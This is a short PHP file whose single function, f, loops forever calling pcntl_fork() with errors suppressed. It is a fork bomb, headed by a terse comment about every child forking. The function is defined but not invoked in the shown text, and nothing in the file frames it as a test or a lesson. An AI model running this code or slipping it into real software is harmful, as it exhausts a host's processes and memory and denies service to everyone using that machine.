<?php
// Every child forks, and all go on.
function f($x) { while (true) @pcntl_fork(); }
